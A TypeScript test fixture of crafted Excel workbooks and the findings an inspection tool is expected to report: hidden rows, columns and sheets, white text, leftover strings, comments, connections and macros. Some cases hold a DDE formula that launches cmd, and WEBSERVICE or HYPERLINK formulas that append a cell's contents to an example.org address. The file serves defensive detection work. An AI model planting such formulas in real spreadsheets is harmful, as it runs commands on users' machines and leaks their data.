import { OFFICE, row, SPACES, xlsxOf } from '../../../core/src/inspection/testing/office.ts'
import { type Crafted, MARKING } from './crafted.ts'
import { book, part } from './office.ts'

const SHEET = `${OFFICE}spreadsheetml.`
const extra = (name: string, type: string, text = '<a/>') => part(`xl/${name}`, type, text)
const cell = (inside: string, attributes = '') => `<row r="2"><c r="A2" ${attributes}>${inside}</c></row>`
const format = (font: string, fill = '', number = '0') =>
  `<numFmts><numFmt numFmtId="200" formatCode=";;;"/></numFmts><fonts><font/><font>${font}</font></fonts>` +
  `<fills><fill/><fill>${fill}</fill></fills><cellXfs><xf/><xf fontId="1" fillId="1" numFmtId="${number}"/></cellXfs>`
const DARK = '<patternFill patternType="solid"><fgColor rgb="FF1F3864"/></patternFill>'
const FORMATTED = cell('<is><t>the rest</t></is>', 't="inlineStr" s="1"')
const WHITE = '<color rgb="FFFFFFFF"/>'

const BOOKS: readonly Crafted[] = [
  book('nothing but its cells', row(2, { A2: 'Pump', B2: '4' }), []),
  book('a hidden row', row(2, { A2: 'x' }, 'hidden="1"'), ['hidden-cells']),
  book('a row of no height', row(2, { A2: 'x' }, 'ht="0" customHeight="1"'), ['hidden-cells']),
  book('a hidden column', row(2, { C2: 'SECRET' }), ['hidden-cells', 'marking-above-label'], {
    before: '<cols><col min="3" max="3" hidden="1"/></cols>',
  }),
  book('a column of no width', '', ['hidden-cells'], { before: '<cols><col min="3" max="9" width="0"/></cols>' }),
  book('white text', FORMATTED, ['white-text'], { styles: format(WHITE) }),
  book('white text on a dark ground', FORMATTED, [], { styles: format(WHITE, DARK) }),
  book('text in the window’s colour', FORMATTED, ['white-text'], { styles: format('<color theme="0"/>') }),
  book('tiny text', FORMATTED, ['tiny-text'], { styles: format('<sz val="1"/>') }),
  book('a format that shows nothing', FORMATTED, ['hidden-cells'], { styles: format('', '', '200') }),
  book('a formula that asks an address', cell('<f>WEBSERVICE("https://example.org")</f><v>x</v>'), ['external-link']),
  book('a formula of DDE', cell("<f>cmd|'/c calc'!A1</f><v>x</v>"), ['external-link']),
  book('a formula over another book', cell('<f>[1]Sheet1!A1</f><v>x</v>'), ['external-link']),
  book('a formula', cell('<f>SUM(B1:B3)</f><v>7</v>'), []),
  book('a shared text that no cell uses', cell('<v>0</v>', 't="s"'), ['leftover'], {
    shared: '<si><t>used</t></si><si><t>the rest</t></si>',
  }),
  book('readings beside a text', cell('<is><t>x</t><rPh><t>SECRET</t></rPh></is>', 't="inlineStr"'), [
    'hidden-text',
    'marking-above-label',
  ]),
  book('a hidden name', '', ['hidden-cells'], {
    book: '<definedNames><definedName name="a" hidden="1">Sheet1!A1</definedName></definedNames>',
  }),
  book('a header above the label', '', ['marking-above-label'], {
    after: '<headerFooter><oddHeader>&amp;C&amp;"Arial"SECRET</oddHeader></headerFooter>',
  }),
  book('a hint', '', ['marking-above-label'], {
    after: '<dataValidations><dataValidation prompt="SECRET stuff"/></dataValidations>',
  }),
  book('comments', '', ['comment'], extra('comments1.xml', `${SHEET}comments+xml`)),
  book(
    'threads of comments',
    '',
    ['comment'],
    extra('threadedComments/a.xml', 'application/vnd.ms-excel.threadedcomments+xml'),
  ),
  book('a connection', '', ['data-connection'], extra('connections.xml', `${SHEET}connections+xml`)),
  book('a query', '', ['data-connection'], extra('queryTables/a.xml', `${SHEET}queryTable+xml`)),
  book('a pivot table’s source', '', ['pivot-cache'], extra('pivotCache/a.xml', `${SHEET}pivotCacheRecords+xml`)),
  book('a link to another book', '', ['external-link'], extra('externalLinks/a.xml', `${SHEET}externalLink+xml`)),
  book('settings of a printer', '', ['properties'], extra('printerSettings1.bin', `${SHEET}printerSettings`, 'x')),
  book('an object of OLE', '', ['embedded-object'], {
    after: '<oleObjects><oleObject progId="Package"/></oleObjects>',
  }),
  book('a name of whoever works on it', '', ['properties'], { book: '<fileSharing userName="A. Person"/>' }),
  book('the folder that it lay in', '', ['properties'], { book: '<x15ac:absPath url="C:\\Users\\x\\"/>' }),
  book('the type of a book with macros', '', ['macro'], {
    mainType: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
  }),
  ...['hidden', 'veryHidden'].map((state): Crafted => {
    const sheets = [{ data: row(1, { A1: MARKING }) }, { data: row(1, { A1: 'the rest' }), state }]
    return {
      what: `a book with a sheet that is ${state}`,
      name: 'parts.xlsx',
      bytes: xlsxOf(sheets),
      expects: ['hidden-sheet'],
    }
  }),
]

const looks = (font: string, fill = '', numbers = '', number = '0', more = '') => ({
  styles:
    `<numFmts>${numbers}</numFmts><fonts><font/><font>${font}</font></fonts><fills><fill/><fill>${fill}</fill></fills>` +
    `<cellXfs><xf/><xf fontId="1" fillId="1" numFmtId="${number}"/></cellXfs>${more}`,
})
const CELL = '<row r="2"><c r="A2" s="1" t="inlineStr"><is><t>the rest</t></is></c></row>'
const COUNT = '<row r="2"><c r="A2" s="1"><v>5</v></c></row>'
const numbers = (code: string) => looks('', '', `<numFmt numFmtId="170" formatCode="${code}"/>`, '170')
const name = (text: string, more = '') => ({
  book: `<definedNames><definedName name="q" ${more}>${text}</definedName></definedNames>`,
})

const TRICKS: readonly Crafted[] = [
  book('white text by its number', CELL, ['white-text'], looks('<color indexed="9"/>')),
  book('white text by a tint', CELL, ['white-text'], looks('<color theme="1" tint="1"/>')),
  book('text in grey', CELL, [], looks('<color theme="1" tint="0.35"/>')),
  book(
    'black text in a black cell',
    CELL,
    ['white-text'],
    looks('', '<patternFill patternType="solid"><fgColor rgb="FF000000"/></patternFill>'),
  ),
  book(
    'a white run of a cell',
    '<row r="2"><c r="A2" t="inlineStr"><is><r><rPr><color rgb="FFFFFFFF"/></rPr><t>the rest</t></r></is></c></row>',
    ['white-text'],
  ),
  book('text in a cell that others cover', row(2, { A2: 'x', B2: 'the rest' }), ['hidden-cells'], {
    after: '<mergeCells><mergeCell ref="A2:B2"/></mergeCells>',
  }),
  book('a merged cell', row(2, { A2: 'x' }), [], { after: '<mergeCells><mergeCell ref="A2:B2"/></mergeCells>' }),
  book('a marking as a format', COUNT, ['hidden-cells', 'marking-above-label'], numbers('&quot;SECRET&quot;')),
  book('a format with a unit', COUNT, [], numbers('0.0&quot; kg&quot;')),
  book('a format of spaces', COUNT, ['hidden-cells'], numbers('&quot; &quot;;&quot; &quot;')),
  book('a format in white', COUNT, ['white-text'], numbers('[White]0')),
  book(
    'a condition that makes text white',
    '',
    ['pale-text'],
    looks('', '', '', '0', '<dxfs><dxf><font><color rgb="FFFFFFFF"/></font></dxf></dxfs>'),
  ),
  book('a name that is hidden in words', '', ['hidden-cells'], name('Sheet1!A1', 'hidden="true"')),
  book('a name that asks an address', '', ['external-link'], name('WEBSERVICE("http://example.org/")')),
  book('a formula that is a link', '<row r="2"><c r="A2"><f>HYPERLINK("http://example.org/")</f><v>0</v></c></row>', [
    'hyperlink',
  ]),
  book(
    'a formula that makes a link of a cell',
    '<row r="2"><c r="A2"><f>HYPERLINK("http://example.org/"&amp;A1)</f><v>0</v></c></row>',
    ['external-link'],
  ),
  book('a condition that asks an address', '', ['external-link'], {
    after:
      '<conditionalFormatting><cfRule><formula>WEBSERVICE("http://example.org/"&amp;A1)=1</formula></cfRule></conditionalFormatting>',
  }),
  book(
    'a filled shape over its cells',
    '',
    ['pale-text'],
    part(
      'xl/drawings/a.xml',
      `${OFFICE}drawing+xml`,
      `<xdr:wsDr ${SPACES}><xdr:sp><xdr:spPr><a:blipFill/></xdr:spPr></xdr:sp></xdr:wsDr>`,
    ),
  ),
  book('rows that are hidden unless they say otherwise', '', ['hidden-cells'], {
    after: '<sheetFormatPr zeroHeight="1"/>',
  }),
]

export const SHEETS: readonly Crafted[] = [...BOOKS, ...TRICKS]
